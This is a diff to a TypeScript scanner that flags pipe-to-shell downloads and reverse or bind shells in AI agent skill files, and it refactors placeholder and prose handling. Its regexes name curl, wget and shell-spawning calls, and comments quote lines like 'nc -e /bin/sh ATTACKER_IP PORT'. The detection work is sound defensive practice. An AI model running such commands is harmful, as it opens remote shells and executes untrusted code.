@@ -5,7 +5,7 @@
 // critical findings are combinations: fetch + execute, decode + execute, socket + shell.
 import { Buffer } from 'node:buffer';
 import type { FileView, Rule, RuleMatch, Severity, SkillView } from '../types.ts';
-import { execRegex, lowerSeverity, matchAllRegex, scan, SEVERITY_ORDER, testRegex } from './context.ts';
+import { execRegex, isProse, lowerSeverity, matchAllRegex, scan, SEVERITY_ORDER, testRegex } from './context.ts';
 import { lineBounds, lineText } from '../line-table.ts';
 import { firstUrlIn, hostTierOf, isFirstPartyHost, type HostTier } from './hosts.ts';
 import { fenceAt } from './credential-access.ts';
@@ -126,17 +126,16 @@ function tierFor(url: string, skill: SkillView): HostTier {
 }
 
 const ELLIPSIS_ARGUMENT = /\b(?:curl|wget|iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString)\b[^|\n]{0,24}?(?:\.{3}|…)/i;
-const PLACEHOLDER_URL_HOST = /^(?:https?:\/\/)?<[^>\s]{1,40}>/i;
 
 const DEFANGED = /\bhxxps?:\/\/|\w\[\.\]\w/i;
 
 function isShapeOnly(command: string, url: string, inFence: boolean): boolean {
+  // An <placeholder> host: firstUrlIn stops at "<", so the command itself is read for it.
   if (/\bhttps?:\/\/<[^>\s]{1,40}>/i.test(command)) return true;
   // `curl | sh` with no address at all, in a table of shapes to look for (a fenced command may
   // carry its address on a continued line).
   if (!url) return !inFence;
-  if (url === '$') return ELLIPSIS_ARGUMENT.test(command);
-  return PLACEHOLDER_URL_HOST.test(url);
+  return url === '$' && ELLIPSIS_ARGUMENT.test(command);
 }
 
 function detectPipeToShell(file: FileView, skill: SkillView): RuleMatch[] {
@@ -147,7 +146,7 @@ function detectPipeToShell(file: FileView, skill: SkillView): RuleMatch[] {
     const url = firstUrlIn(m[0]);
     // `curl … | sh` or `curl http://<host>/x.sh | bash` in prose names a shape: there is nothing
     // to fetch, so nothing an agent could run.
-    if ((file.kind === 'skill-md' || file.kind === 'markdown') && isShapeOnly(m[0], url, fenceAt(file, m.index) !== undefined)) return null;
+    if (isProse(file) && isShapeOnly(m[0], url, fenceAt(file, m.index) !== undefined)) return null;
     // Defanged addresses (hxxp://, evil[.]example) are written so that nothing can fetch them.
     if (DEFANGED.test(m[0])) return null;
     const tier = tierFor(url, skill);
@@ -430,13 +429,18 @@ const CLIENT_INPUT = /\.(?:gets|readline|recv|read)\b|\.on\(\s*["']data["']|bufi
 const SHELL_RUN = /["'](?:\/bin\/)?(?:ba|z)?sh["']\s*,\s*["']-c["']|\bOpen3\.(?:capture\w*|popen\w*)\s*\(|\bsubprocess\.\w+\s*\([^)\n]{0,80}shell\s*=\s*True|\bos\.(?:system|popen)\s*\(|\bchild_process\b|\bexecSync\s*\(|\bexec\.Command\s*\(\s*["'](?:\/bin\/)?(?:ba)?sh["']|\bshell_exec\s*\(|`\s*#\{/;
 const PLACEHOLDER_HOST = /\b(?:ATTACKER|LHOST|RHOST|YOUR|REMOTE|LISTENER)_?(?:IP|HOST|ADDR(?:ESS)?)?\b|<(?:ip|host|lhost|attacker[\w -]{0,12}|your[\w -]{0,12})>|\bIP\s+PORT\b/;
 
+function runsWhatItReads(text: string, index: number): boolean {
+  const after = text.slice(index, Math.min(text.length, index + 1200));
+  return CLIENT_INPUT.test(after) && SHELL_RUN.test(after);
+}
+
 function detectReverseShell(file: FileView): RuleMatch[] {
   if (skipFile(file)) return [];
   const text = file.text;
   const keep = (m: RegExpExecArray, message: string): RuleMatch | null => {
     if (warnedAgainst(file, m.index)) return null;
     // A cheat-sheet line (`nc -e /bin/sh ATTACKER_IP PORT`) connects nowhere until someone fills it in.
-    if ((file.kind === 'skill-md' || file.kind === 'markdown') && PLACEHOLDER_HOST.test(lineText(text, m.index))) return null;
+    if (isProse(file) && PLACEHOLDER_HOST.test(lineText(text, m.index))) return null;
     return { index: m.index, length: m[0].length, message };
   };
   const found = [
@@ -457,20 +461,10 @@ function detectReverseShell(file: FileView): RuleMatch[] {
         ? keep(m, 'Standard input and output reopened on a socket and a shell started (reverse shell)')
         : null;
     }),
-    ...scan(text, CLIENT_SOCKET, (m) => {
-      // The same loop over a connection the script opens itself: a reverse shell without dup2.
-      const after = text.slice(m.index, Math.min(text.length, m.index + 1200));
-      return CLIENT_INPUT.test(after) && SHELL_RUN.test(after)
-        ? keep(m, 'Opens a connection and runs the commands it receives through a shell (reverse shell)')
-        : null;
-    }),
-    ...scan(text, LISTENING_SERVER, (m) => {
-      // A server that reads lines from its clients and runs them through a shell: a bind shell.
-      const after = text.slice(m.index, Math.min(text.length, m.index + 1200));
-      return CLIENT_INPUT.test(after) && SHELL_RUN.test(after)
-        ? keep(m, 'Listens on a port and runs what clients send through a shell (bind shell)')
-        : null;
-    }),
+    // A connection that reads lines and runs them through a shell in the code that follows: one
+    // the script opens itself is a reverse shell without dup2, one it listens for a bind shell.
+    ...scan(text, CLIENT_SOCKET, (m) => (runsWhatItReads(text, m.index) ? keep(m, 'Opens a connection and runs the commands it receives through a shell (reverse shell)') : null)),
+    ...scan(text, LISTENING_SERVER, (m) => (runsWhatItReads(text, m.index) ? keep(m, 'Listens on a port and runs what clients send through a shell (bind shell)') : null)),
     ...scan(text, SOCKET_DUP2, (m) => {
       // Python reverse shell: a socket's descriptors duplicated onto stdio, then a shell spawned.
       const window = text.slice(Math.max(0, m.index - 800), Math.min(text.length, m.index + 800));
